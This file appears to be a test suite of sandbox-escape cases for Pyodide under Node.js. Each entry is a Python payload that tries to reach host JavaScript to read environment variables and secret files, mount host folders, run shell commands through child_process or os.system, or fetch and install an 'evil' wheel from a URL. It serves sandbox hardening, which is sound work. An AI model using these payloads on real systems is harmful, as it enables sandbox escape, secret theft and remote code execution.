# Attacks on the host's JavaScript realm. JS_PROOF is an expression whose value shows that JavaScript ran.

#! environment through js.process
import js
print(getattr(js.process.env, ENV_NAME))

#! file system module through process.getBuiltinModule
import js
print(js.process.getBuiltinModule('node:fs').readFileSync(SECRET_FILE, 'utf8'))

#= file system module through a global require
import js
print(js.require('fs').readFileSync(SECRET_FILE, 'utf8'))

#! run_js
from pyodide.code import run_js
print(run_js(JS_PROOF))

#! run_js writes a host file
import pyodide.code
pyodide.code.run_js("process.getBuiltinModule('fs').writeFileSync(%r, 'x')" % MARKER)

#! indirect eval
import js
print(js.eval(JS_PROOF))

#! Function constructor
import js
print(js.Function.new('return ' + JS_PROOF)())

#! constructor of the constructor of pyodide_js
import pyodide_js
print(pyodide_js.constructor.constructor('return ' + JS_PROOF)())

#! constructor of a converted list
from pyodide.ffi import to_js
print(to_js([1, 2]).constructor.constructor('return ' + JS_PROOF)())

#! constructor of a proxied Python function
from pyodide.ffi import create_proxy
print(create_proxy(lambda: 1).constructor.constructor('return ' + JS_PROOF)())

#! constructor of a converted dictionary
from pyodide.ffi import to_js
print(to_js({'a': [1]}).constructor.constructor('return ' + JS_PROOF)())

#! js module out of sys.modules
import sys
print(sys.modules['js'].eval(JS_PROOF))

#! js module by importlib
import importlib
print(importlib.import_module('js').eval(JS_PROOF))

#! js module by dunder import
print(__import__('js').eval(JS_PROOF))

#! js module by exec in a clean namespace
space = {}
exec('import js\nfound = js.eval(%r)' % JS_PROOF, space)
print(space['found'])

#! js module registered by hand
from _pyodide._importhook import jsfinder
print(jsfinder.jsproxies['js'].eval(JS_PROOF))

#! core module of the bridge
import _pyodide_core
for name in dir(_pyodide_core):
    thing = getattr(_pyodide_core, name)
    try:
        print(thing.constructor.constructor('return ' + JS_PROOF)())
    except BaseException:
        pass
import pyodide.code
print(pyodide.code.run_js(JS_PROOF))

#= JavaScript exception as a way in
import js
from pyodide.ffi import JsException
try:
    js.eval('throw new Error("x")')
except JsException as error:
    print(error.constructor.constructor('return ' + JS_PROOF)())

#= proxies found by the garbage collector
import gc
for thing in gc.get_objects():
    if type(thing).__name__ == 'JsProxy':
        try:
            print(thing.constructor.constructor('return ' + JS_PROOF)())
            break
        except BaseException:
            pass

#! proxies found by type
import pyodide.ffi
import pyodide_js
for name in dir(pyodide_js):
    value = getattr(pyodide_js, name)
    if isinstance(value, pyodide.ffi.JsProxy):
        print(value.constructor.constructor('return ' + JS_PROOF)())
        break

#! Emscripten module object
import pyodide_js
print(pyodide_js._module.constructor.constructor('return ' + JS_PROOF)())

#! environment of the Emscripten module
import pyodide_js
print(pyodide_js._module.ENV)
print(pyodide_js._api.constructor.constructor('return ' + JS_PROOF)())

#! host folder mounted through NODEFS
import pyodide_js
from pyodide.ffi import to_js
import js
folder, name = SECRET_FILE.rsplit('/', 1)
pyodide_js.FS.mkdir('/stolen')
pyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, js.Object.fromEntries(to_js([['root', folder]])), '/stolen')
print(open('/stolen/' + name).read())

#! host folder mounted through mountNodeFS
import pyodide_js
folder, name = SECRET_FILE.rsplit('/', 1)
pyodide_js.mountNodeFS('/stolen2', folder)
print(open('/stolen2/' + name).read())

#= host file through a lazily read file
import pyodide_js
pyodide_js.FS.createLazyFile('/tmp', 'lazy', 'file://' + SECRET_FILE, True, False)
print(open('/tmp/lazy').read())

#= host file through a preloaded file
import pyodide_js
pyodide_js.FS.createPreloadedFile('/tmp', 'preloaded', URL, True, False)

#= child process module
import js
print(js.process.getBuiltinModule('child_process').execSync(COMMAND))

#= worker thread with a script of our own
import js
from pyodide.ffi import to_js
worker = js.process.getBuiltinModule('worker_threads').Worker
worker.new("require('fs').writeFileSync(%r, 'x')" % MARKER, js.Object.fromEntries(to_js([['eval', True]])))
import time
time.sleep(1)

#! diagnostic report of the process
import js
report = js.process.report.getReport()
print('JS-REACHED-' + str(report.header.nodejsVersion))

#! signal to the host process
import js
if js.process.kill(js.process.pid, 0):
    print('JS-REACHED-' + 'kill')

#! environment of the parent through process.binding
import js
print(js.process.binding('process_wrap'), js.eval(JS_PROOF))

#! fetch
import js
js.fetch(URL)

#= fetch awaited on the event loop
import asyncio, js
async def main():
    return await js.fetch(URL)
asyncio.get_event_loop().run_until_complete(main())

#! pyfetch
import asyncio
from pyodide.http import pyfetch
asyncio.ensure_future(pyfetch(URL))

#= open_url
from pyodide.http import open_url
print(open_url(URL).read())

#! loadPackage of an address
import pyodide_js
pyodide_js.loadPackage(URL + '/evil-1.0-py3-none-any.whl')

#= micropip
import asyncio
import micropip
asyncio.ensure_future(micropip.install(URL + '/evil-1.0-py3-none-any.whl'))

#= WebSocket of the host
import js
socket = js.WebSocket.new('ws://127.0.0.1:%d/socket' % PORT)

#! callback that runs after the step
import asyncio
def later():
    import os
    os.system(COMMAND)
asyncio.get_event_loop().call_later(0.01, later)

#! task that runs after the step
import asyncio
async def later():
    await asyncio.sleep(0)
    import os
    os.system(COMMAND)
asyncio.ensure_future(later())

#= stack switching
from pyodide.ffi import run_sync
import js
print(run_sync(js.Promise.resolve(js.eval(JS_PROOF))))

#! unregistering and registering a JavaScript module
import pyodide_js
import sys
pyodide_js.registerJsModule('loot', pyodide_js)
import loot
print(loot.constructor.constructor('return ' + JS_PROOF)())

#! new interpreter made by the interpreter's own API
import pyodide_js
print(pyodide_js.runPython("import js\njs.eval(%r)" % JS_PROOF))

#! event listener left behind
from pyodide.ffi.wrappers import set_timeout
def later():
    import os
    os.system(COMMAND)
set_timeout(later, 1)

#! destructor that calls JavaScript
class Trap:
    def __del__(self):
        import js
        js.process.getBuiltinModule('fs').writeFileSync(MARKER, 'x')
trap = Trap()
del trap

#! console of the host
import js
js.console.log('x')
print(js.console.constructor.constructor('return ' + JS_PROOF)())
